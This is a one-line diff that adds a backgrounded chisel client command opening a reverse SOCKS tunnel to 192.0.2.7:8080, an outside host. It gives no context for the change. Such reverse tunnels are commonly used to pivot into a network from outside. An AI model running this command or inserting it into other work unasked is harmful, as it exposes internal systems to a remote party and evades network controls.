@@ -1,0 +1,1 @@
+nohup ./chisel client 192.0.2.7:8080 R:socks &
